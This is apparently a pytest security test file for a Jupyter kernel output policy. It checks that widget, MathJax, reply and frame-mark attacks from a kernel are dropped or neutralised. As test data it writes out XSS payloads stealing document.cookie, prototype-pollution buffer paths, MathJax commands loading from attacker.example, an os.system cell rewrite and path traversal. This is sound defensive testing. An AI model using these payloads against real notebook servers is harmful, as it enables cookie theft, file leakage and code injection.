"""Issue 33: what a kernel could still do to the page, the notebook or the server past the policy.

Each test is the attack as a kernel would send it (comm ids reused across targets, custom widget
messages, names and buffer paths chosen to reach innerHTML or a prototype, URL loads and MathJax
styles, replies that act on the notebook or the server, a forged frame mark), and what the policy
lets through.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kernel_sandbox.policy.output import MARK_KEY, OutputPolicy
from kernel_sandbox.policy.widgets import BINARY_FIELDS, WIDGET_NAMES

from support.policy_checks import html_problems

pytestmark = pytest.mark.security("attack", "policy")

CONTROLS = "@jupyter-widgets/controls"


def widget(model: str, view: str | None = None, module: str = CONTROLS, **state: Any) -> dict[str, Any]:
    """A widget's full state as ipywidgets 8 sends it on comm_open."""
    return {
        "_model_module": module, "_model_module_version": "2.0.0", "_model_name": model,
        "_view_module": module if view else None, "_view_module_version": "2.0.0", "_view_name": view, **state,
    }


def opened(comm_id: str, state: dict[str, Any], target: str = "jupyter.widget", paths: list | None = None) -> dict[str, Any]:
    return {"comm_id": comm_id, "target_name": target, "data": {"state": state, "buffer_paths": paths or []}}


def update(comm_id: str, state: dict[str, Any], paths: list | None = None, method: str = "update") -> dict[str, Any]:
    return {"comm_id": comm_id, "data": {"method": method, "state": state, "buffer_paths": paths or []}}


def refused(content: dict[str, Any] | None) -> bool:
    """A comm_open the policy turned into its note."""
    return content is not None and "refused by the strict output policy" in str(content["data"]["state"].get("value"))


HTML = widget("HTMLModel", "HTMLView", value="")
HOSTILE = '<img src=x onerror="alert(document.cookie)">'


# ---- comm ids: keyed by target, never reused ----------------------------------------------------


def test_an_id_opened_for_another_target_cannot_become_a_widget() -> None:
    """The finding: an id first opened for another target, restored as a widget after a page reload."""
    policy = OutputPolicy()
    assert policy.filter("comm_open", opened("x", {}, target="other")) is not None
    assert policy.filter("comm_open", opened("x", HTML)) is None  # reusing a known id: dropped
    # the frontend holds "x" as a widget (restored by id): its updates are policed whatever the record says
    out = policy.filter("comm_msg", update("x", {"value": HOSTILE, "description": HOSTILE, "description_allow_html": True}))
    assert out is not None and html_problems(out["data"]["state"]["value"]) == [] and html_problems(out["data"]["state"]["description"]) == []
    # the full-state reply a reloaded page asks for cannot make it a widget either
    states = {"x": {"model_name": "HTMLModel", "model_module": CONTROLS, "model_module_version": "2.0.0", "state": {**HTML, "value": HOSTILE}}}
    reply = policy.filter("comm_msg", update("control", {}, method="update_states") | {"data": {"method": "update_states", "states": states, "buffer_paths": []}})
    assert reply is not None and "opened for" in reply["data"]["states"]["x"]["state"]["value"]
    assert policy.filter("comm_msg", update("x", {"value": "later"})) is None  # refused from then on


def test_a_closed_id_is_never_opened_again() -> None:
    policy = OutputPolicy()
    assert policy.filter("comm_open", opened("w", HTML)) is not None
    assert policy.filter("comm_close", {"comm_id": "w", "data": {}}) is not None
    assert policy.filter("comm_open", opened("w", HTML)) is None
    assert policy.filter("comm_msg", update("w", {"value": "x"})) is None


@st.composite
def comm_traffic(draw: st.DrawFn) -> list[tuple[str, dict[str, Any]]]:
    ids = st.sampled_from(["a", "b", "c"])
    targets = st.sampled_from(["jupyter.widget", "other", "jupyter.widget.control", "kernel_sandbox"])
    states = st.fixed_dictionaries({}, optional={
        "value": st.sampled_from([HOSTILE, "ok", ["<img src=x onerror=1>"]]),
        "description": st.sampled_from([HOSTILE, "d"]), "description_allow_html": st.booleans(),
        "_model_name": st.sampled_from(["HTMLModel", "TextModel", "<img src=x onerror=1>"]),
    })
    paths = st.lists(st.lists(st.sampled_from(["value", "description_allow_html", "__proto__", "constructor", 0, "state"]), max_size=3), max_size=2)
    messages = []
    for _ in range(draw(st.integers(1, 12))):
        kind = draw(st.sampled_from(["open", "msg", "close", "states"]))
        comm_id = draw(ids)
        if kind == "open":
            messages.append(("comm_open", opened(comm_id, {**HTML, **draw(states)}, draw(targets), draw(paths))))
        elif kind == "msg":
            messages.append(("comm_msg", update(comm_id, draw(states), draw(paths), draw(st.sampled_from(["update", "echo_update", "custom", "x"])))))
        elif kind == "close":
            messages.append(("comm_close", {"comm_id": comm_id, "data": {}}))
        else:
            entry = {"model_name": "HTMLModel", "model_module": CONTROLS, "model_module_version": "2.0.0", "state": {**HTML, **draw(states)}}
            messages.append(("comm_msg", {"comm_id": "ctl", "data": {"method": "update_states", "states": {comm_id: entry}, "buffer_paths": draw(paths)}}))
    return messages


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(comm_traffic())
def test_whatever_ids_a_kernel_reuses_no_widget_state_passes_unchecked(traffic) -> None:
    policy = OutputPolicy()
    opened_ids: list[str] = []
    for msg_type, content in traffic:
        out = policy.filter(msg_type, copy.deepcopy(content))
        if out is None:
            continue
        if msg_type == "comm_open":
            opened_ids.append(out["comm_id"])
        data = out.get("data", {})
        states = [data.get("state")] if isinstance(data.get("state"), dict) else [e.get("state", {}) for e in data.get("states", {}).values()]
        if msg_type == "comm_msg" and content["data"].get("state") is not None:
            assert data.get("method") in ("update", "echo_update")
        if msg_type == "comm_open" and out["target_name"] != "jupyter.widget":
            continue  # another target's comm: no widget manager reads it
        for state in states:
            assert isinstance(state.get("value", ""), str) and html_problems(state.get("value", "")) == []
            if state.get("description_allow_html"):
                assert html_problems(state.get("description", "")) == []
            for path in data.get("buffer_paths", []):
                assert not {"__proto__", "constructor"} & set(path) and "description_allow_html" not in path
    assert len(opened_ids) == len(set(opened_ids))  # an id opens once


# ---- custom messages ----------------------------------------------------------------------------


def test_custom_widget_messages_are_dropped() -> None:
    """The finding: ``{"do": "focus"}`` every 100 ms kept a 2-px Text widget focused (a keylogger)."""
    policy = OutputPolicy()
    assert policy.filter("comm_open", opened("t", widget("TextModel", "TextView", value=""))) is not None
    for content in ({"do": "focus"}, {"do": "blur"}, {"anything": 1}):
        assert policy.filter("comm_msg", {"comm_id": "t", "data": {"method": "custom", "content": content}}) is None
    assert policy.filter("comm_msg", {"comm_id": "t", "data": {"method": "display"}}) is None
    assert policy.filter("comm_msg", update("t", {"value": "typed"})) is not None


# ---- names and versions -------------------------------------------------------------------------


@pytest.mark.parametrize("names", [
    {"_model_name": "<img src=x onerror=alert(1)>"},
    {"_view_name": "<img src=x onerror=alert(1)>"},
    {"_model_name": "ErrorWidgetModel"},
    {"_model_name": "toString"},
    {"_model_name": None},
    {"_view_module": "<b>m</b>", "_view_name": "HTMLView"},
    {"_model_module_version": "<img src=x onerror=1>"},
])
def test_widget_names_are_what_the_standard_modules_export(names) -> None:
    """The finding: names the frontend cannot find are written into jupyter-widgets' error box as HTML."""
    out = OutputPolicy().filter("comm_open", opened("n", {**HTML, **names}))
    assert refused(out) and html_problems(out["data"]["state"]["value"]) == []


def test_every_standard_widget_opens() -> None:
    policy = OutputPolicy()
    for module, names in WIDGET_NAMES.items():
        for name in sorted(n for n in names if n.endswith("Model")):
            view = name[: -len("Model")] + "View"
            state = widget(name, view if view in names else None, module=module)
            assert not refused(policy.filter("comm_open", opened(f"{module}{name}", state))), name


def test_an_operator_module_may_name_only_identifiers() -> None:
    policy = OutputPolicy(allow_widget_modules=["my-widgets"])
    assert not refused(policy.filter("comm_open", opened("a", widget("ChartModel", "ChartView", module="my-widgets"))))
    assert refused(policy.filter("comm_open", opened("b", widget("<img>", "ChartView", module="my-widgets"))))


# ---- binary buffers -----------------------------------------------------------------------------


IMAGE = widget("ImageModel", "ImageView", format="png")


@pytest.mark.parametrize("path", [
    ["__proto__", "polluted"], ["value", "__proto__"], ["constructor", "prototype", "x"],
    ["description_allow_html"], ["description"], ["_model_name"], ["layout"], ["format"], [], ["value", True],
])
def test_buffer_paths_only_on_a_widgets_own_bytes(path) -> None:
    """The finding: ``["__proto__", ...]`` polluted Object.prototype; a buffer on ``description_allow_html``
    skipped the description's cleaning."""
    policy = OutputPolicy()
    assert refused(policy.filter("comm_open", opened("i", IMAGE, paths=[path])))
    policy.filter("comm_open", opened("j", IMAGE))
    assert policy.filter("comm_msg", update("j", {}, [path])) is None
    assert policy.filter("comm_msg", update("j", {}, [["value"]])) is not None


def test_bytes_fields_keep_their_buffers() -> None:
    policy = OutputPolicy()
    assert set(BINARY_FIELDS) == {"ImageModel", "VideoModel", "AudioModel", "FileUploadModel"}
    assert not refused(policy.filter("comm_open", opened("i", IMAGE, paths=[["value"]])))
    upload = widget("FileUploadModel", "FileUploadView", value=[])
    assert not refused(policy.filter("comm_open", opened("u", upload)))
    assert policy.filter("comm_msg", update("u", {"value": [{"name": "a.csv"}]}, [["value", 0, "content"]])) is not None
    assert policy.filter("comm_msg", update("never-seen", {}, [["value"]])) is None  # unknown widget: no bytes field known


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(["__proto__", "constructor", "prototype", "value", "content"]), st.integers(0, 3)), min_size=1, max_size=5))
def test_no_buffer_path_reaches_a_prototype(path) -> None:
    policy = OutputPolicy()
    out = policy.filter("comm_open", opened("i", IMAGE, paths=[path]))
    passed = not refused(out)
    assert passed == (path[0] == "value" and not {"__proto__", "constructor", "prototype"} & set(path))


# ---- URL loads and MathJax ----------------------------------------------------------------------


def test_widgets_load_no_url() -> None:
    """The finding: ``<img src="/api/contents/...">`` in an HTML widget; Image/Video/Audio with format url."""
    policy = OutputPolicy()
    out = policy.filter("comm_open", opened("h", {**HTML, "value": '<img src="/api/contents/secret.txt"><img src="data:image/png;base64,AA">'}))
    assert out["data"]["state"]["value"] == '<img><img src="data:image/png;base64,AA">'
    for model in ("ImageModel", "VideoModel", "AudioModel"):
        out = policy.filter("comm_open", opened(model, widget(model, model.replace("Model", "View"), format="url")))
        assert "format" not in out["data"]["state"]
        assert "format" not in policy.filter("comm_msg", update(model, {"format": "url", "width": "10"}))["data"]["state"]
    style = widget("LayoutModel", "LayoutView", module="@jupyter-widgets/base", border="1px solid red", background="url(/api/contents/x)")
    assert policy.filter("comm_open", opened("l", style))["data"]["state"]["border"] == "1px solid red"
    assert "background" not in policy.filter("comm_open", opened("l2", style))["data"]["state"]


@pytest.mark.parametrize("tex", [
    r"$\style{cursor:url(https://attacker.example/x)}{x}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\class{jp-Dialog}{x}$",
    r"$\cssId{x}{y}$",
    r"$\require{https://attacker.example/ext.js}$",
    r"$\bbox[background:url(https://attacker.example/x)]{x}$",
    r"$\\style{color:red}{x}$",
    r"$\let\s=\style \s{cursor:pointer}{x}$",
])
def test_latex_that_styles_links_or_loads_is_defused(tex) -> None:
    """The finding: MathJax ``\\style{cursor:url(...)}`` in LaTeX, Markdown math and widgets."""
    policy = OutputPolicy()
    commands = ("\\style", "\\href", "\\class", "\\cssId", "\\require", "\\bbox")
    for mime in ("text/latex", "text/markdown", "text/html"):
        shown = policy.filter("display_data", {"data": {mime: tex}, "metadata": {}})["data"][mime]
        assert not any(c in shown for c in commands) and "url(" not in shown, (mime, shown)
    policy.filter("comm_open", opened("m", widget("HTMLMathModel", "HTMLMathView", value="")))
    for state in ({"value": tex}, {"description": tex}):
        shown = policy.filter("comm_msg", update("m", state))["data"]["state"]
        assert not any(c in v for v in shown.values() for c in commands)
    entity = tex.replace("\\", "&#92;")
    shown = policy.filter("display_data", {"data": {"text/markdown": entity}, "metadata": {}})["data"]["text/markdown"]
    import html

    assert not any(c in html.unescape(html.unescape(shown)) for c in commands), shown


def test_ordinary_latex_is_untouched() -> None:
    content = {"data": {"text/latex": r"$\frac{\alpha}{2} + \text{style} + \mathrm{url}$"}, "metadata": {}}
    assert OutputPolicy().filter("display_data", content)["data"] is content["data"]


# ---- replies ------------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["strict", "trusted"])
def test_a_next_input_never_replaces_the_users_cell(mode) -> None:
    """The finding: ``set_next_input(replace=True)`` silently rewrote the cell the user ran."""
    content = {"status": "ok", "execution_count": 1, "payload": [{"source": "set_next_input", "text": "import os; os.system('x')", "replace": True}]}
    out = OutputPolicy(mode).filter("execute_reply", content)
    assert out["payload"] == [{"source": "set_next_input", "text": "import os; os.system('x')", "replace": False}]


@pytest.mark.parametrize("mode", ["strict", "trusted"])
def test_kernel_info_help_links_and_language_info(mode) -> None:
    """The findings: a help link opened a kernel-chosen page; ``nbconvert_exporter`` made the server import
    a module the kernel named."""
    info = {
        "status": "ok", "protocol_version": "5.3", "implementation": "ipython",
        "help_links": [{"text": "Python", "url": "https://docs.python.org/3"}, {"text": "evil", "url": "https://attacker.example"}],
        "language_info": {"name": "python", "version": "3.11.2", "mimetype": "text/x-python", "file_extension": ".py",
                          "pygments_lexer": "ipython3", "codemirror_mode": {"name": "ipython", "version": 3},
                          "nbconvert_exporter": "python"},
    }
    assert OutputPolicy(mode).filter("kernel_info_reply", info)["help_links"] == []
    allowed = OutputPolicy(mode, allow_help_links=["https://docs.python.org/3"]).filter("kernel_info_reply", info)
    assert allowed == {**info, "help_links": info["help_links"][:1]}
    hostile = {**info, "language_info": {
        "name": "<img src=x onerror=alert(1)>", "version": "3\n<script>", "mimetype": "text/html",
        "file_extension": "../../x", "pygments_lexer": "x y", "codemirror_mode": {"name": "x", "version": 3, "extra": "<b>"},
        "nbconvert_exporter": "evil_module:Exporter",
    }}
    language = OutputPolicy(mode).filter("kernel_info_reply", hostile)["language_info"]
    assert language == {"mimetype": "text/html", "codemirror_mode": {"name": "x", "version": 3}}


# ---- the frame mark -----------------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["strict", "trusted"])
@pytest.mark.parametrize("msg_type", ["display_data", "execute_result", "update_display_data"])
def test_every_display_output_carries_the_mark_and_a_kernel_cannot_opt_out(mode, msg_type) -> None:
    """The finding: whether an output was framed was decided from the notebook's current kernel."""
    for forged in ({"framed": False}, False, "no", {"removed": ["x"]}, None):
        content = {"data": {"text/html": "<b>x</b>"}, "metadata": {MARK_KEY: forged, "isolated": True}, "transient": {}}
        if msg_type == "execute_result":
            content["execution_count"] = 1
        out = OutputPolicy(mode).filter(msg_type, content)
        assert out["metadata"] == {MARK_KEY: {"framed": True}, "isolated": True}
        assert content["metadata"][MARK_KEY] == forged  # the kernel's message is not changed in place


def test_outputs_of_an_output_widget_carry_the_mark() -> None:
    policy = OutputPolicy()
    policy.filter("comm_open", opened("o", widget("OutputModel", "OutputView", module="@jupyter-widgets/output", outputs=[])))
    outputs = [{"output_type": "display_data", "data": {"text/plain": "x"}, "metadata": {MARK_KEY: {"framed": False}}},
               {"output_type": "stream", "name": "stdout", "text": "y"}]
    shown = policy.filter("comm_msg", update("o", {"outputs": outputs}))["data"]["state"]["outputs"]
    assert shown[0]["metadata"] == {MARK_KEY: {"framed": True}} and shown[1] == outputs[1]


def test_a_link_cannot_write_what_the_policy_checks_on_media_and_styles() -> None:
    """A jsdlink from a Text widget would otherwise set an Image's format to "url", or a layout's CSS."""
    policy = OutputPolicy()
    text = widget("TextModel", "TextView", value="url")
    policy.filter("comm_open", opened("t", text))
    policy.filter("comm_open", opened("i", IMAGE))
    policy.filter("comm_open", opened("l", widget("LayoutModel", "LayoutView", module="@jupyter-widgets/base")))
    for target in (["IPY_MODEL_i", "format"], ["IPY_MODEL_l", "background"]):
        link = widget("DirectionalLinkModel", None, source=["IPY_MODEL_t", "value"], target=target)
        assert refused(policy.filter("comm_open", opened(f"link{target[1]}", link))), target
    plain = widget("DirectionalLinkModel", None, source=["IPY_MODEL_t", "value"], target=["IPY_MODEL_i", "width"])
    assert not refused(policy.filter("comm_open", opened("ok", plain)))
